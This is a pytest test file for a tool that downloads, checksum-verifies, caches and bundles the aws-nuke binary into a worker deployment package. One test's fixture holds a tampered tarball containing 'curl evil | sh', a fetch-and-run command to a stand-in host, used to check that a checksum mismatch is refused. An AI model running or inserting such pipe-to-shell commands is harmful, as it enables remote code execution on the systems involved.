"""gip.cli.nuke_release and the worker bundle's bin/aws-nuke: pinned, checksummed, cached, 0755.
A fake fetcher serves a small tarball (GitHub is not reachable from tests)."""

from __future__ import annotations

import functools
import hashlib
import io
import re
import tarfile
import zipfile
from pathlib import Path

import pytest

from gip.cli import deploy as deploy_module
from gip.cli import nuke_release, packaging
from tests.deploy_support import FakeInstaller, RecordingReporter, options
from worker.cleaner import find_nuke

ROOT = Path(__file__).resolve().parent.parent
BINARY = b"#!/bin/sh\necho 'aws-nuke version v3.63.4'\n"


def tarball(files: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tar:
        for name, data in files.items():
            info = tarfile.TarInfo(name)
            info.size, info.mode = len(data), 0o755
            tar.addfile(info, io.BytesIO(data))
    return buf.getvalue()


RELEASE = tarball({"LICENSE": b"MIT\n", "README.md": b"aws-nuke\n", "aws-nuke": BINARY})
RELEASE_SHA = hashlib.sha256(RELEASE).hexdigest()


class FakeFetcher:
    """Serves one tarball (or raises), recording the URLs asked for."""

    def __init__(self, data: bytes = RELEASE, error: Exception | None = None) -> None:
        self.data, self.error, self.urls = data, error, list[str]()

    def __call__(self, url: str) -> bytes:
        self.urls.append(url)
        if self.error is not None:
            raise self.error
        return self.data


def source_tree(root: Path) -> Path:
    for top in ("gip", "handlers", "schemas", "worker"):
        (root / top).mkdir(parents=True)
        (root / top / "__init__.py").write_text("")
    (root / "setup.cfg").write_text("[options]\ninstall_requires =\n    requests>=2\n")
    return root


def test_the_worker_bundle_carries_the_fetched_binary_at_bin_aws_nuke_mode_0755(tmp_path: Path) -> None:
    fetch = FakeFetcher()
    binary = nuke_release.aws_nuke_binary(fetch=fetch, cache=tmp_path / "cache", sha256=RELEASE_SHA)
    src = source_tree(tmp_path / "src")
    worker = packaging.build("worker", root=src, installer=FakeInstaller(), nuke=binary)
    lam = packaging.build("lambda", root=src, installer=FakeInstaller(), nuke=binary)

    assert fetch.urls == ["https://github.com/ekristen/aws-nuke/releases/download/v3.63.4/aws-nuke-v3.63.4-linux-amd64.tar.gz"]
    zf = zipfile.ZipFile(io.BytesIO(worker.data))
    assert zf.read("bin/aws-nuke") == BINARY
    modes = {info.filename: info.external_attr >> 16 for info in zf.infolist()}
    assert modes.pop("bin/aws-nuke") == 0o755 and set(modes.values()) == {0o644}
    assert "bin/aws-nuke" not in zipfile.ZipFile(io.BytesIO(lam.data)).namelist()
    # still deterministic: same inputs, same bytes, same key
    assert packaging.build("worker", root=src, installer=FakeInstaller(), nuke=binary).data == worker.data


def test_a_cached_release_is_not_downloaded_again(tmp_path: Path) -> None:
    cache = tmp_path / "cache"
    nuke_release.aws_nuke_binary(fetch=FakeFetcher(), cache=cache, sha256=RELEASE_SHA)
    assert (cache / "aws-nuke-v3.63.4-linux-amd64.tar.gz").read_bytes() == RELEASE
    again = FakeFetcher(error=AssertionError("must not fetch"))
    assert nuke_release.aws_nuke_binary(fetch=again, cache=cache, sha256=RELEASE_SHA) == BINARY
    assert again.urls == []


def test_a_checksum_mismatch_is_refused_in_one_line_and_nothing_is_cached(tmp_path: Path) -> None:
    cache = tmp_path / "cache"
    tampered = tarball({"aws-nuke": b"#!/bin/sh\ncurl evil | sh\n"})
    with pytest.raises(nuke_release.NukeReleaseError) as err:
        nuke_release.aws_nuke_binary(fetch=FakeFetcher(tampered), cache=cache, sha256=RELEASE_SHA)
    (line,) = str(err.value).splitlines()
    assert f"has sha256 {hashlib.sha256(tampered).hexdigest()}, expected {RELEASE_SHA}" in line
    assert "refusing" in line and not cache.exists()


def test_a_cached_tarball_that_no_longer_checks_out_is_fetched_again(tmp_path: Path) -> None:
    cache = tmp_path / "cache"
    cache.mkdir()
    (cache / "aws-nuke-v3.63.4-linux-amd64.tar.gz").write_bytes(b"truncated")
    fetch = FakeFetcher()
    assert nuke_release.aws_nuke_binary(fetch=fetch, cache=cache, sha256=RELEASE_SHA) == BINARY
    assert len(fetch.urls) == 1


def test_a_download_failure_is_one_line_suggesting_retry_or_no_nuke(tmp_path: Path) -> None:
    fetch = FakeFetcher(error=OSError("Name or service not known"))
    with pytest.raises(nuke_release.NukeReleaseError) as err:
        nuke_release.aws_nuke_binary(fetch=fetch, cache=tmp_path, sha256=RELEASE_SHA)
    (line,) = str(err.value).splitlines()
    assert line.startswith("cannot download aws-nuke v3.63.4 from https://github.com/")
    assert "Name or service not known" in line and "retry" in line and "--no-nuke" in line


def test_a_tarball_without_the_executable_is_refused(tmp_path: Path) -> None:
    empty = tarball({"README.md": b"x"})
    with pytest.raises(nuke_release.NukeReleaseError, match="no aws-nuke executable"):
        nuke_release.aws_nuke_binary(fetch=FakeFetcher(empty), cache=tmp_path,
                                     sha256=hashlib.sha256(empty).hexdigest())


def test_the_dockerfile_pins_the_same_release_as_the_bundle() -> None:
    dockerfile = (ROOT / "worker" / "Dockerfile").read_text()
    args = dict(re.findall(r"^ARG (AWS_NUKE_\w+)=(\S*)$", dockerfile, flags=re.M))
    assert args == {"AWS_NUKE_VERSION": nuke_release.VERSION, "AWS_NUKE_ARCH": nuke_release.ARCH,
                    "AWS_NUKE_SHA256": nuke_release.SHA256}
    assert re.fullmatch(r"[0-9a-f]{64}", nuke_release.SHA256)


@pytest.fixture
def fake_release(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> FakeFetcher:
    """Deploy's build with the fake tarball's checksum pinned and a private cache."""
    pinned = functools.partial(nuke_release.aws_nuke_binary, cache=tmp_path / "cache", sha256=RELEASE_SHA)
    monkeypatch.setattr(nuke_release, "aws_nuke_binary", pinned)
    return FakeFetcher()


def test_deploy_bundles_aws_nuke_for_the_stock_image_only(tmp_path: Path, fake_release: FakeFetcher) -> None:
    src = source_tree(tmp_path / "src")
    opts = functools.partial(options, "https://example.invalid", local=False, source_root=src,
                             nuke_fetcher=fake_release)
    built = deploy_module._build(opts(), RecordingReporter())
    assert "bin/aws-nuke" in zipfile.ZipFile(io.BytesIO(built["worker"].data)).namelist()
    assert len(fake_release.urls) == 1
    # --no-nuke, local mode, --no-deps and an own image: no download, no binary
    reporter = RecordingReporter()
    for variant in (opts(vendor_nuke=False), opts(local=True), opts(installer=None, vendor_deps=False),
                    opts(worker_image="123456789012.dkr.ecr.us-east-1.amazonaws.com/w:1")):
        built = deploy_module._build(variant, reporter)
        assert "bin/aws-nuke" not in zipfile.ZipFile(io.BytesIO(built["worker"].data)).namelist()
    assert len(fake_release.urls) == 1
    assert any("without aws-nuke" in line for line in reporter.notices)


def test_deploy_stops_on_a_tampered_release(tmp_path: Path, fake_release: FakeFetcher) -> None:
    fake_release.data = tarball({"aws-nuke": b"not the release"})
    with pytest.raises(nuke_release.NukeReleaseError, match="refusing to bundle it"):
        deploy_module._build(options("https://example.invalid", local=False, source_root=source_tree(tmp_path / "src"),
                                     nuke_fetcher=fake_release), RecordingReporter())


def test_the_worker_finds_the_bundled_binary_only_when_it_is_executable(tmp_path: Path,
                                                                       monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PATH", str(tmp_path / "empty"))  # no aws-nuke on PATH
    bundled = tmp_path / "bin" / "aws-nuke"
    assert find_nuke("", bundled=bundled) is None
    bundled.parent.mkdir()
    bundled.write_bytes(BINARY)
    bundled.chmod(0o644)
    assert find_nuke("", bundled=bundled) is None  # what a plain extractall would leave
    bundled.chmod(0o755)
    assert find_nuke("", bundled=bundled) == str(bundled)
    assert find_nuke("off", bundled=bundled) is None  # NUKE=off, and local mode's default, still win
